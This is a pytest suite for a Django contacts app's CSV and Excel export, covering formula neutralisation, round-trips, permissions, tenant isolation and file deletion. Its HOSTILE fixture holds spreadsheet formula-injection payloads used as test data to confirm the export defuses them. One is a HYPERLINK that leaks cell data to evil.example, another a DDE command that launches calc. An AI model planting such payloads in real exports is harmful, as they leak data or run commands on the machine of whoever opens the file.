"""Exports: the right people and columns, no cell that a spreadsheet program calculates, and back again unchanged."""

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import pytest
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from consent.ledger import OptIn
from consent.services import opt_in, opt_out
from contacts.bulk.run import run_job
from contacts.exporting.pieces import pieces
from contacts.models import Contact, ContactJob, ExportPiece
from contacts.services import (
    create_contact,
    create_field,
    erase_contact,
    get_or_create_tag,
    start_job,
    tag_contact,
    update_contact,
)
from contacts.services.bulk import People
from contacts.tasks import delete_exports
from tenants.models import AuditEntry
from tenants.scope import NoTenantScope, all_tenants, tenant_scope
from tests.cast import Cast, make_cast
from tests.contacts.test_import import load
from tests.web import confirm, sign_in, text_of

HOSTILE = {
    "+12025550123": '=HYPERLINK("http://evil.example/?"&A1)',
    "+12025550124": "@SUM(1+9)*cmd|'/C calc'!A0",
    "+12025550125": "+1-2",
    "+12025550126": "-3",
    "+12025550127": "＝1+1",
    "+12025550128": '"=1+1"',
    "+12025550129": "'quoted'",
    "+12025550130": 'Jo "the, comma" Doe',
    "+12025550131": "José 李 🎉 \u202e",
}
"""Names that a spreadsheet program would calculate, or a file could break on."""
USUAL = "number,first_name,last_name,email,language,timezone,field:city,tags,lists,suppressed"


@pytest.fixture
def cast(transactional_db: None) -> Cast:
    """Committed, because a job commits chunk by chunk."""
    return make_cast()


@pytest.fixture
def people(cast: Cast) -> list[UUID]:
    with tenant_scope(cast.clinic.tenant.id):
        create_field(label="City", kind="text")
        return [
            create_contact(
                tenant=cast.clinic.tenant,
                number=number,
                values={"first_name": name, "last_name": "Doe", "email": "d@mail.example", "language": "en"},
                fields={"city": name},
            ).id
            for number, name in HOSTILE.items()
        ]


def export(cast: Cast, columns: str = USUAL, kind: str = "csv", people: People | None = None) -> ContactJob:
    with tenant_scope(cast.clinic.tenant.id):
        job = start_job(
            tenant=cast.clinic.tenant,
            kind="export",
            people=people or People(query={}),
            values={"columns": columns, "format": kind},
            user_id=cast.mona.id,
        )
    run_job(cast.clinic.tenant.id, job.id)
    with all_tenants("test"):
        return ContactJob.objects.get(id=job.id)


def content_of(job: ContactJob) -> bytes:
    return b"".join(pieces(job.tenant_id, job.id))


def rows_of(job: ContactJob) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content_of(job).decode("utf-8-sig"), newline="")))


def streamed(answer: Any) -> bytes:
    assert not isinstance(answer, HttpResponse)
    return b"".join(answer.streaming_content)


def test_no_cell_begins_like_a_formula_but_the_strict_number(cast: Cast, people: list[UUID]) -> None:
    head, *rows = rows_of(export(cast))
    assert head[:7] == ["Phone number", "First name", "Last name", "E-mail", "Language", "Time zone", "City"]
    assert {row[0]: row[1].removeprefix("'") for row in rows} == {
        number: name.removeprefix("'") for number, name in HOSTILE.items()
    }
    for row in rows:
        assert row[0] in HOSTILE
        for cell in row[1:]:
            assert not cell.lstrip(' "').startswith(tuple("=+-@\t\r＝＋－＠")), cell


@pytest.mark.parametrize("size", [1, 4, 2_000])
def test_an_export_comes_back_unchanged(
    cast: Cast, people: list[UUID], size: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("contacts.bulk.run.CHUNK_ROWS", dict.fromkeys(ContactJob.Kind.values, size))
    with tenant_scope(cast.clinic.tenant.id):
        tag_contact(contact=Contact.objects.get(id=people[0]), tag=get_or_create_tag(name="=VIP"))
        opt_in(opt_in=OptIn("+12025550123", "marketing", "paper"))
        opt_out(number="+12025550124", source="reply", wording="STOP")
        before = list(Contact.objects.order_by("id").values())
    job = export(cast, f"{USUAL},numbers,added,archived,consent:marketing,consent:transactional")
    assert job.counts == {"changed": len(HOSTILE)}
    imported = load(cast, content_of(job).decode(), basis="none", purposes=[])
    assert imported.counts == {"unchanged": len(HOSTILE)}
    with tenant_scope(cast.clinic.tenant.id):
        assert list(Contact.objects.order_by("id").values()) == before


def test_consent_tags_and_suppressions_are_told(cast: Cast, people: list[UUID]) -> None:
    with tenant_scope(cast.clinic.tenant.id):
        cast.clinic.tenant.timezone = "America/New_York"
        cast.clinic.tenant.save()
        ann = Contact.objects.get(id=people[0])
        for name in ("VIP", "Early"):
            tag_contact(contact=ann, tag=get_or_create_tag(name=name))
        said_at = datetime(2026, 1, 2, 3, tzinfo=UTC)
        opt_in(opt_in=OptIn(ann.number, "marketing", "paper", occurred_at=said_at))
        opt_out(number="+12025550124", source="reply", wording="STOP")
    head, *rows = rows_of(export(cast, "number,tags,suppressed,consent:marketing"))
    assert all(title == "Phone number" or title.endswith("(not imported)") for title in head)
    told = {row[0]: row[1:] for row in rows}
    assert told["+12025550123"][0] == "Early, VIP"
    assert told["+12025550123"][2:] == ["Opted in", "2026-01-01 22:00", "Signed paper form"]
    assert told["+12025550124"][1] != ""
    assert told["+12025550125"] == ["", "", "", "", ""]


def test_a_workbook_holds_texts_only(cast: Cast, people: list[UUID]) -> None:
    job = export(cast, kind="xlsx")
    book = load_workbook(io.BytesIO(content_of(job)))
    head, *rows = list(book.active.iter_rows())  # type: ignore[union-attr]
    assert [cell.value for cell in head][:2] == ["Phone number", "First name"]
    assert len(rows) == len(HOSTILE)
    assert {cell.data_type for row in rows for cell in row if cell.value is not None} == {"s"}
    assert {str(row[0].value) for row in rows} == set(HOSTILE)


def test_a_workbook_that_would_be_too_long_is_refused(
    cast: Cast, people: list[UUID], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("contacts.bulk.run.MAX_WORKBOOK_ROWS", 3)
    job = export(cast, kind="xlsx")
    assert (job.status, "Export them as CSV" in job.problem) == ("failed", True)


@pytest.mark.parametrize(("name", "status"), [("alice", 200), ("mona", 200), ("bob", 403), ("vera", 403)])
def test_who_may_export_and_download(client: Client, cast: Cast, people: list[UUID], name: str, status: int) -> None:
    job = export(cast)
    sign_in(client, getattr(cast, name), cast.clinic.tenant)
    data = {"kind": "export", "everyone": "1", "query": "", "columns": ["number"], "format": "csv"}
    assert client.get(reverse("contact_bulk"), data).status_code == status
    assert client.post(reverse("contact_bulk"), data).status_code == (302 if status == 200 else 403)
    answer = client.get(reverse("contact_job_file", args=[job.id]))
    assert answer.status_code == status
    if status == 200:
        assert streamed(answer) == content_of(job)
        assert answer.headers["Content-Disposition"].startswith('attachment; filename="contacts-')
        with tenant_scope(cast.clinic.tenant.id):
            told = AuditEntry.objects.get(action="contacts.downloaded")
            assert (told.actor_id, told.after) == (getattr(cast, name).id, {"people": len(HOSTILE)})
    else:
        assert reverse("contact_job_file", args=[job.id]) not in text_of(
            client.get(reverse("contact_job", args=[job.id]))
        )


def test_the_file_is_read_inside_the_tenants_scope(cast: Cast, people: list[UUID]) -> None:
    job = export(cast)
    # The request's own scope is over when a file is sent; the pieces open theirs.
    assert len(content_of(job)) > 500
    with pytest.raises(NoTenantScope):
        list(ExportPiece.objects.all())


def test_files_of_others_do_not_exist(client: Client, cast: Cast, people: list[UUID]) -> None:
    job = export(cast)
    sign_in(client, cast.charlie, cast.shop.tenant)
    assert client.get(reverse("contact_job_file", args=[job.id])).status_code == 404
    assert list(pieces(cast.shop.tenant.id, job.id)) == []


def test_people_of_others_are_not_in_the_file(cast: Cast, people: list[UUID]) -> None:
    with tenant_scope(cast.shop.tenant.id):
        foreign = create_contact(tenant=cast.shop.tenant, number="+12025550199", values={"first_name": "Secret"})
    job = export(cast, people=People((people[0], foreign.id)))
    assert job.counts == {"changed": 1, "not_found": 1}
    assert b"Secret" not in content_of(job)


def test_whoever_has_not_confirmed_is_asked_first(client: Client, cast: Cast, people: list[UUID]) -> None:
    job = export(cast)
    sign_in(client, cast.mona, cast.clinic.tenant)
    confirm(client, cast.mona, seconds_ago=3600)
    data = {"kind": "export", "everyone": "1", "columns": ["number"], "format": "csv"}
    for answer in (client.get(reverse("contact_job_file", args=[job.id])), client.post(reverse("contact_bulk"), data)):
        assert answer.status_code == 302
        assert answer.headers["Location"].startswith("/accounts/")


def test_a_file_is_deleted_after_a_day(client: Client, cast: Cast, people: list[UUID]) -> None:
    old, new = export(cast), export(cast)
    with all_tenants("test"):
        ContactJob.objects.filter(id=old.id).update(finished_at=timezone.now() - timedelta(hours=25))
    delete_exports()
    assert (content_of(old), content_of(new) != b"") == (b"", True)
    sign_in(client, cast.mona, cast.clinic.tenant)
    assert "The file was deleted" in text_of(client.get(reverse("contact_job", args=[old.id])))
    assert client.get(reverse("contact_job_file", args=[old.id])).status_code == 302


def test_a_file_with_somebody_who_is_erased_is_deleted(cast: Cast, people: list[UUID]) -> None:
    with_them, without = export(cast), export(cast, people=People(people[1:]))
    with tenant_scope(cast.clinic.tenant.id):
        erase_contact(contact=Contact.objects.get(id=people[0]), typed="ERASE")
    assert (content_of(with_them), content_of(without) != b"") == (b"", True)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"columns": [], "format": "csv"}, "Choose at least one column"),
        ({"columns": ["password"], "format": "csv"}, "Select a valid choice"),
        ({"columns": ["number"], "format": "exe"}, "Select a valid choice"),
    ],
)
def test_odd_columns_and_formats_are_refused(
    client: Client, cast: Cast, people: list[UUID], data: dict[str, Any], message: str
) -> None:
    sign_in(client, cast.mona, cast.clinic.tenant)
    answer = client.post(reverse("contact_bulk"), {"kind": "export", "everyone": "1", **data})
    assert (answer.status_code, message in text_of(answer)) == (422, True)


def test_an_export_goes_on_where_it_stopped(cast: Cast, people: list[UUID], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("contacts.bulk.run.CHUNK_ROWS", dict.fromkeys(ContactJob.Kind.values, 2))
    with tenant_scope(cast.clinic.tenant.id):
        job = start_job(
            tenant=cast.clinic.tenant,
            kind="export",
            people=People(query={}),
            values={"columns": "number", "format": "csv"},
            user_id=None,
        )
    assert run_job(cast.clinic.tenant.id, job.id, seconds=0)
    with tenant_scope(cast.clinic.tenant.id):
        update_contact(contact=Contact.objects.get(id=people[0]), values={"first_name": "Later"})
    assert not run_job(cast.clinic.tenant.id, job.id)
    assert sorted(row[0] for row in rows_of(job)[1:]) == sorted(HOSTILE)
